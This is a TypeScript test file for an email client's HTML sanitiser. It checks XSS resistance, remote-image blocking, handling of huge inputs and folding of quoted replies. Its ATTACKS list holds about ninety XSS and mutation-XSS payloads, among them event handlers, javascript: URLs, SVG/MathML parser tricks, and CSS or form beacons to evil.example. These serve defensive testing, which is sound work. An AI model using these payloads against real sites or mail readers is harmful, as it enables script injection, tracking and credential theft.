import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sanitiseHtml } from './sanitise-html.ts';

/** Attacks of every family we know of; each line stands for itself. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror\x0b=alert(1)>',
  '<img src="x" onerror="alert(1)" / >',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  '<body onload=alert(1)>hello',
  '<div onmouseover="alert(1)">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><image href="https://evil.example/x.png"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ' +
    'onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=x></applet>',
  '<base href="https://evil.example/"><a href="x">y</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; ' +
    'body{background:url(https://evil.example/y)}</style>',
  '<form action="https://evil.example"><input name="password"><button ' +
    'formaction="x">send</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video poster="https://evil.example/x.png" src="https://evil.example/x.mp4" ' +
    'onerror=alert(1)></video>',
  '<audio src="https://evil.example/x.mp3"></audio>',
  '<img srcset="https://evil.example/x.png 1x">',
  '<picture><source srcset="https://evil.example/x.png"><img ' +
    'src="https://evil.example/y.png"></picture>',
  '<img src="https://evil.example/x.png" lowsrc="https://evil.example/z.png" dynsrc=y>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<table background="https://evil.example/x.png"><td background=y>x</td></table>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<div style="background-image:url(https://evil.example/x.png)">x</div>',
  '<div style="background:\\75rl(https://evil.example/x.png)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml)">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<div style="color:red/**/;position/**/:fixed">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
  '<div style="color:red;content:url(https://evil.example)">x</div>',
  '<div style="cursor:url(https://evil.example),auto;list-style:url(https://evil.example)">x</div>',
  '<div style="--x:url(https://evil.example);color:var(--x)">x</div>',
  '<div style="font-family:\'</style><script>alert(1)</script>\'">x</div>',
  '<div style="margin-left:-9999px">x</div>',
  '<img name="body" id="body"><a id="cookie" name="cookie">x</a>',
  '<form id="attributes"><input name="parentNode"></form>',
  '<div id="__proto__" class="constructor">x</div>',
  '<a href="https://ok.example" onclick="alert(1)" style="color:red" target="_top" ' +
    'ping="https://evil.example">x</a>',
  '<p/onclick=alert(1)>x',
  '<<script>alert(1);//<</script>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<div data-bind="x" is="x-y"><slot name=x></slot></div>',
  '<img src="x:x" alt="``onerror=alert(1)">',
  '<a href="http://a b.example/\' onclick=alert(1) x=\'">x</a>',
  '<img alt="\'"><img src=x onerror=alert(1)//">',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<marquee onstart=alert(1)>x</marquee>',
  '<keygen autofocus onfocus=alert(1)><isindex action=javascript:alert(1) type=image>',
  '<portal src="https://evil.example"></portal><fencedframe></fencedframe>',
  '<table><tr><td><style></td></tr></table><img src=x onerror=alert(1)></style>',
];

const TAG = /<\/?([a-z][a-z0-9]*)((?:\s+[a-z-]+="[^"<>]*")*)>/g;
const SAFE_ATTRIBUTES = new Set(
  (
    'href target rel src alt title style dir lang align valign width height bgcolor ' +
    'colspan rowspan span border cellpadding cellspacing start type color size face ' +
    'data-folded data-remote-src'
  ).split(' '),
);

const FORBIDDEN = new RegExp(
  String.raw`^(?:script|style|iframe|object|embed|svg|math|form|input|base|meta|link|template|` +
    String.raw`noscript|video|audio|title|textarea|xmp|select|button|picture|source)$`,
);
const VALUES: Record<string, RegExp> = {
  href: /^(?:https?:\/\/|mailto:|tel:)/,
  src: /^(?:cid:|data:image\/(?:png|jpe?g|gif|webp);)/,
  style: /^(?!.*(?:url|expression|position|\\|\/\*|-\d))/i,
};

/** Reads the output as strictly as a hostile reviewer: only tags of one exact shape may occur. */
function listFaults(html: string): string[] {
  const faults = /[<>"].{0,40}/.exec(html.replace(TAG, '')) ?? [];
  const found: string[] = [...faults];
  for (const [, name, attributes] of html.matchAll(TAG)) {
    if (FORBIDDEN.test(name!)) found.push(name!);
    for (const [, attribute, value] of attributes!.matchAll(/\s+([a-z-]+)="([^"]*)"/g)) {
      // oxlint-disable-next-line no-control-regex
      const plain = value!.replaceAll('&amp;', '&').replace(/[\s\0-\x20]+/g, '');
      const isFine = SAFE_ATTRIBUTES.has(attribute!) && (VALUES[attribute!]?.test(plain) ?? true);
      if (!isFine) found.push(`${attribute}=${plain}`);
    }
  }
  return found;
}

describe('attacks', () => {
  test('there are at least sixty of them', () => {
    expect(ATTACKS.length).toBeGreaterThanOrEqual(60);
  });

  test.each(ATTACKS)('nothing of %j runs, loads or moves', (attack) => {
    const { html } = sanitiseHtml(`<p>before</p>${attack}<p>after</p>`);
    expect(listFaults(html)).toEqual([]);
    expect(listFaults(sanitiseHtml(html).html)).toEqual([]);
  });

  test('any mixture of attacks stays harmless, and cleaning twice changes nothing', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.string(),
      fc.constantFrom('"', "'", '<', '>', '</div>', '<b>', '<!--', '-->', '</style>'),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const once = sanitiseHtml(pieces.join(''));
        expect(listFaults(once.html)).toEqual([]);
        const twice = sanitiseHtml(once.html);
        expect(twice.html).toBe(once.html);
        expect(twice.remoteImages).toBe(once.remoteImages);
      }),
      { numRuns: 300 },
    );
  });
});

describe('what a contact sent stays readable', () => {
  test('words in unknown elements are kept', () => {
    expect(sanitiseHtml('<o:p>Hallo</o:p> <foo>Welt</foo>').html).toBe('Hallo Welt');
  });

  test('an address in angle brackets is text and not a tag', () => {
    expect(sanitiseHtml('Lena <lena@example.org> schrieb').html).toBe(
      'Lena &lt;lena@example.org&gt; schrieb',
    );
  });

  test('layout, colours and tables survive', () => {
    const html =
      '<table border="1" cellpadding="4"><tr><td style="color:#333;padding:2px ' +
      '4px">x</td></tr></table>';
    expect(sanitiseHtml(html).html).toBe(html);
  });

  test('a link opens outside and tells nobody where it was clicked', () => {
    expect(sanitiseHtml('<a href="//shop.example/?a=1&b=2">x</a>').html).toBe(
      '<a href="https://shop.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer ' +
        'nofollow">x</a>',
    );
  });

  test('unclosed paragraphs, list items and cells do not nest', () => {
    expect(sanitiseHtml('<ul><li>a<li>b</ul><p>c<p>d').html).toBe(
      '<ul><li>a</li><li>b</li></ul><p>c</p><p>d</p>',
    );
    const deep = sanitiseHtml('<p>x'.repeat(1000)).html;
    expect(deep.match(/<p>/g)).toHaveLength(1000);
  });
});

describe('pictures', () => {
  test('a remote picture waits for a click', () => {
    const result = sanitiseHtml(
      '<img src="https://t.example/p.gif?a&b" width="1"><img src=//u.example/x>',
    );
    expect(result.remoteImages).toBe(2);
    expect(result.html).toBe(
      '<img data-remote-src="https://t.example/p.gif?a&amp;b" width="1">' +
        '<img data-remote-src="https://u.example/x">',
    );
  });

  test('an inline picture keeps its content id, or gets the address it is mapped to', () => {
    const html = '<img src="CID:logo@x" alt="Logo">';
    expect(sanitiseHtml(html).html).toBe('<img src="cid:logo@x" alt="Logo">');
    const cidMap = new Map([['logo@x', '/files/1']]);
    expect(sanitiseHtml(html, { cidMap }).html).toBe('<img src="/files/1" alt="Logo">');
  });

  test('a pasted picture stays, a huge or a scriptable one goes', () => {
    expect(sanitiseHtml('<img src="data:image/png;base64,iVBO">').html).toContain('data:image/png');
    const huge = `<img src="data:image/png;base64,${'A'.repeat(600_000)}" alt="big">`;
    expect(sanitiseHtml(huge).html).toBe('<img alt="big">');
  });
});

describe('[L7] size and depth', () => {
  test.each([20_000, 400_000])('%i nested divs are done at once', (count) => {
    const started = performance.now();
    const result = sanitiseHtml(`${'<div>'.repeat(count)}x${'</div>'.repeat(count)}`);
    expect(performance.now() - started).toBeLessThan(20_000);
    expect(result.html.match(/<div>/g)).toHaveLength(200);
    expect(result.html).toContain('x');
  });

  test('crossed tags, endless entities, attributes and comments are linear', () => {
    const started = performance.now();
    for (const html of [
      '<b><i>'.repeat(100_000) + '</q></b>'.repeat(100_000),
      '&amp;'.repeat(300_000),
      `<a ${'x=1 '.repeat(200_000)}>`,
      '<!--'.repeat(300_000),
      '<'.repeat(1_000_000),
      `<p style="${'color:red;'.repeat(100_000)}">`,
      '<blockquote type=cite>'.repeat(100_000),
    ]) {
      sanitiseHtml(html);
    }
    expect(performance.now() - started).toBeLessThan(20_000);
  });

  test('a mail beyond two megabytes is cut and says so', () => {
    const result = sanitiseHtml('<p>word </p>'.repeat(400_000));
    expect(result.truncated).toBe(true);
    expect(result.html.length).toBeLessThan(2.1 * 1024 * 1024);
    expect(listFaults(result.html.slice(-2000).replace(/^[^<]*/, ''))).toEqual([]);
  });
});

describe('folding in HTML', () => {
  const folds = (html: string): string => sanitiseHtml(html).html;

  test('Gmail: the quote is folded, an answer between the quotes is not', () => {
    const html = folds(
      '<div>Hallo</div><div class="gmail_quote"><div class="gmail_attr">Am 3.11. schrieb ' +
        'Ito:<br></div>' +
        '<blockquote class="gmail_quote">Frage 1</blockquote><div>Antwort 1</div>' +
        '<blockquote class="gmail_quote">Frage 2</blockquote></div>',
    );
    expect(html).toContain('<blockquote data-folded="quote">Frage 1</blockquote>');
    expect(html).toContain('<div>Antwort 1</div>');
    expect(html).toContain('<div data-folded="header">Am 3.11.');
    expect(html).toContain('<div><div data-folded="header">');
  });

  test('Outlook: everything after its header block is folded, wherever it stands', () => {
    const html = folds(
      '<div>Danke!<div><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt ' +
        '0cm 0cm 0cm">' +
        '<p class="MsoNormal"><b>Von:</b> Ito</p></div></div><p>alter ' +
        'Text</p><table><tr><td>mehr</td></tr></table></div>',
    );
    expect(html).toMatch(/Danke!<div><div data-folded="quote"><div style=/);
    expect(html).toMatch(/<div data-folded="quote"><p>alter Text<\/p><table>/);
    expect(folds('<p>Hi</p><div id="divRplyFwdMsg">Von: Ito</div><div>alt</div>')).toBe(
      '<p>Hi</p><div data-folded="quote"><div>Von: Ito</div><div>alt</div></div>',
    );
  });

  test('GMX, Thunderbird, Apple Mail, Yahoo and Proton are known', () => {
    for (const quote of [
      '<div name="quote">alt</div>',
      '<blockquote type="cite">alt</blockquote>',
      '<div id="yahoo_quoted_123">alt</div>',
      '<div class="protonmail_quote">alt</div>',
    ]) {
      expect(folds(`<p>neu</p>${quote}`)).toContain('data-folded="quote"');
    }
  });

  test('a quotation the writer made is no quote of a mail', () => {
    expect(folds('<p>Goethe:</p><blockquote>Edel sei der Mensch</blockquote>')).not.toContain(
      'folded',
    );
  });

  test('a mail that is nothing but a quote stays open', () => {
    const result = sanitiseHtml('<blockquote type="cite">alles</blockquote><br>');
    expect(result.folded).toBe(false);
    expect(result.html).toBe('<blockquote>alles</blockquote><br>');
  });
});
